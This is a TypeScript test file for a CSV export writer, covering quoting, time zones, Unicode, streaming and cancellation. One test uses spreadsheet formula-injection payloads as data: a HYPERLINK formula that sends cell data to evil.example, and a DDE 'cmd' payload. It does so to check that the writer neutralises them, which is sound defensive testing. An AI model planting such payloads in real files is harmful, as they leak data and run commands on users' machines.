import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { writeEntries, writeExport, type ExportJob } from '../../src/main/history/export-writer.ts';
import { EMPTY_FILTER, type HistoryEntry } from '../../src/shared/history.ts';
import { tempFoldersFor } from '../support/temp-folder.ts';

const temp = tempFoldersFor('event-desk-export-csv-');

const FIXED = ['id', 'createdAtLocal', 'createdAtUtc', 'name', 'customer', 'customerName', 'customerEmail', 'outcome', 'disposition', 'outbox', 'httpStatus', 'message', 'errors', 'eventId', 'eventCreatedAtLocal', 'eventCreatedAtUtc', 'attempts', 'durationMs', 'savedEventId', 'updatedAtLocal', 'updatedAtUtc', 'profile', 'unreadable', 'data'];
const AT = Date.UTC(2026, 10, 25, 10, 0, 0, 5);

function entry(id: number, data: Record<string, unknown> = {}, overrides: Partial<HistoryEntry> = {}): HistoryEntry {
  return { id, profile: 'default', createdAt: AT, updatedAt: AT + 120, outcome: 'sent', disposition: 'delivered', request: { name: `Event ${id}`, customer: 1001, data }, httpStatus: 200, responseBody: '{"id":1}', message: null, errors: [], eventId: 500 + id, eventCreatedAt: AT, attempts: 1, durationMs: 120, customerName: 'Ada Lovelace', customerEmail: 'ada@example.com', unreadable: null, savedEventId: null, outbox: null, ...overrides };
}

function job(path: string, entries: Iterable<HistoryEntry>, overrides: Partial<ExportJob> = {}): ExportJob {
  return { path, format: 'csv', filter: EMPTY_FILTER, entries, exportedAt: new Date(AT), signal: new AbortController().signal, onProgress: () => {}, timeZone: 'UTC', dataKeys: [], ...overrides };
}

/** Writes a CSV export and reads it back with a real CSV parser. */
async function exportCsv(entries: HistoryEntry[], overrides: Partial<ExportJob> = {}): Promise<{ text: string; header: string[]; rows: Record<string, string>[] }> {
  const path = join(temp(), 'history.csv');
  expect(await writeExport(job(path, entries, overrides))).toBe(entries.length);
  const text = readFileSync(path, 'utf8');
  const records = parse(text, { bom: true, relax_quotes: false }) as string[][];
  const header = records[0]!;
  return { text, header, rows: records.slice(1).map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index]!]))) };
}

/** What a spreadsheet would treat as a formula: text (not a plain number) starting with = + - @, tab or CR. */
const looksLikeFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

describe('CSV export', () => {
  it('has a BOM, CRLF line ends, the fixed columns, the data as JSON and one column per data key', async () => {
    const { text, header, rows } = await exportCsv([entry(2, { plan: 'pro', seats: 3 }), entry(1, { plan: 'free', trial: true })], { dataKeys: ['plan', 'seats', 'trial'] });
    expect(text.startsWith('\uFEFFid,createdAtLocal,')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(4);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(header).toEqual([...FIXED, 'data.plan', 'data.seats', 'data.trial']);
    expect(rows).toEqual([
      expect.objectContaining({ id: '2', name: 'Event 2', customer: '1001', outcome: 'sent', disposition: 'delivered', httpStatus: '200', eventId: '502', data: '{"plan":"pro","seats":3}', 'data.plan': 'pro', 'data.seats': '3', 'data.trial': '' }),
      expect.objectContaining({ id: '1', 'data.plan': 'free', 'data.seats': '', 'data.trial': 'true' }),
    ]);
  });

  it('writes every time in ISO 8601 twice: in the user\'s time zone with its offset, and in UTC', async () => {
    const { rows } = await exportCsv([entry(1, {}, { eventCreatedAt: null })], { timeZone: 'Asia/Kathmandu' });
    expect(rows[0]).toMatchObject({
      createdAtLocal: '2026-11-25T15:45:00.005+05:45',
      createdAtUtc: '2026-11-25T10:00:00.005Z',
      updatedAtLocal: '2026-11-25T15:45:00.125+05:45',
      updatedAtUtc: '2026-11-25T10:00:00.125Z',
      eventCreatedAtLocal: '',
      eventCreatedAtUtc: '',
    });
    const newYork = await exportCsv([entry(1)], { timeZone: 'America/New_York' });
    expect(newYork.rows[0]).toMatchObject({ createdAtLocal: '2026-11-25T05:00:00.005-05:00', eventCreatedAtLocal: '2026-11-25T05:00:00.005-05:00' });
  });

  it.each(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF20'])('text starting with %j is quoted and prefixed with a single quote, wherever it is', async (start) => {
    const value = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
    const { text, rows } = await exportCsv(
      [entry(1, { note: value, amount: -5, text: '-5' }, { request: { name: value, customer: 1001, data: { note: value, amount: -5, text: '-5' } }, customerName: value, customerEmail: `${start}cmd|' /C calc'!A0`, message: value, errors: [{ code: 'data.note', message: value }] })],
      { dataKeys: ['note', 'amount', 'text'] },
    );
    const row = rows[0]!;
    for (const column of ['name', 'customerName', 'message', 'data.note']) expect(row[column]).toBe(`'${value}`);
    expect(row.customerEmail).toBe(`'${start}cmd|' /C calc'!A0`);
    // Quoted in the file, per OWASP: the quote is part of the cell's text in every spreadsheet.
    expect(text).toContain(`"'${start}HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    // Quoted even with no comma or quote in it that would have made the writer quote it anyway.
    expect(text).toContain(`,"'${start}cmd|' /C calc'!A0",`);
    // A number stays a number; the same characters as text do not.
    expect(row['data.amount']).toBe('-5');
    expect(text).toMatch(/,-5,/);
    expect(row['data.text']).toBe("'-5");
    // The JSON columns start with { or [ and keep the value exactly.
    expect(JSON.parse(row.data!)).toEqual({ note: value, amount: -5, text: '-5' });
    expect(JSON.parse(row.errors!)).toEqual([{ code: 'data.note', message: value }]);
    expect(Object.values(row).filter(looksLikeFormula)).toEqual([]);
  });

  it('keeps commas, quotes, line breaks and any Unicode exactly, in the data columns and the JSON', async () => {
    const data = { comma: 'a, b, c', quote: 'say "hi" \'there\'', lines: 'two\nlines', crlf: 'one\r\ntwo', unicode: 'Zoë 🎉 👩‍💻 中文 עברית Ωμέγα', separators: 'line\u2028para\u2029end', empty: '', nothing: null, nested: { deep: [1, 'two', { three: 3 }] }, list: ['x', 'y'] };
    const { rows } = await exportCsv([entry(1, data, { customerName: 'Åsa Öberg-Ñúñez, "Chief"' })], { dataKeys: Object.keys(data) });
    const row = rows[0]!;
    expect(row.customerName).toBe('Åsa Öberg-Ñúñez, "Chief"');
    for (const key of ['comma', 'quote', 'lines', 'crlf', 'unicode', 'separators'] as const) expect(row[`data.${key}`]).toBe(data[key]);
    expect(row['data.empty']).toBe('');
    expect(row['data.nothing']).toBe('');
    expect(JSON.parse(row['data.nested']!)).toEqual(data.nested);
    expect(row['data.list']).toBe('["x","y"]');
    expect(JSON.parse(row.data!)).toEqual(data);
  });

  it('a key one entry lacks is empty there, even a key named like an Object property', async () => {
    const keys = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
    const first = JSON.parse('{"__proto__": "mine", "constructor": "also mine", "toString": 1, "hasOwnProperty": false}') as Record<string, unknown>;
    const { header, rows } = await exportCsv([entry(2, first), entry(1, {})], { dataKeys: keys });
    expect(header.slice(FIXED.length)).toEqual(keys.map((key) => `data.${key}`));
    expect(rows[0]).toMatchObject({ 'data.__proto__': 'mine', 'data.constructor': 'also mine', 'data.toString': '1', 'data.hasOwnProperty': 'false' });
    expect(rows[1]).toMatchObject({ 'data.__proto__': '', 'data.constructor': '', 'data.toString': '', 'data.hasOwnProperty': '' });
  });

  it('a data key that looks like a formula cannot make the header one', async () => {
    const { header } = await exportCsv([entry(1, { '=cmd': 1, '@x': 2 })], { dataKeys: ['=cmd', '@x'] });
    expect(header.slice(FIXED.length)).toEqual(['data.=cmd', 'data.@x']);
  });

  it('an empty export is the header alone', async () => {
    const { text, rows } = await exportCsv([], { dataKeys: [] });
    expect(rows).toEqual([]);
    expect(text).toBe(`\uFEFF${FIXED.join(',')}\r\n`);
  });

  it('streams: never reads more than a batch ahead of what the slow stream has taken', async () => {
    let pulled = 0;
    let received = 0;
    let worst = 0;
    function* entries() {
      for (let id = 5000; id >= 1; id -= 1) {
        pulled += 1;
        worst = Math.max(worst, pulled - received);
        yield entry(id, { padding: 'p'.repeat(200) });
      }
    }
    const sink = new Writable({
      highWaterMark: 4096,
      write(chunk: Buffer, _encoding, callback) {
        // Rows end in CRLF and this data has no line breaks of its own: count rows as they arrive.
        received += chunk.toString().split('\r\n').length - 1;
        setImmediate(callback);
      },
    });
    const { path: _path, ...streamJob } = job('', entries());
    expect(await writeEntries(sink, streamJob)).toBe(5000);
    expect(received).toBe(5001);
    // One batch being built (100) and one waiting in the stream, plus the header row.
    expect(worst).toBeLessThanOrEqual(201);
  });

  it('cancel removes the partial file', async () => {
    const folder = temp();
    const controller = new AbortController();
    function* entries() {
      for (let id = 1; id <= 10_000; id += 1) {
        if (id === 5000) controller.abort();
        yield entry(id);
      }
    }
    await expect(writeExport(job(join(folder, 'out.csv'), entries(), { signal: controller.signal }))).rejects.toMatchObject({ code: 'cancelled' });
    expect(readdirSync(folder)).toEqual([]);
  });
});
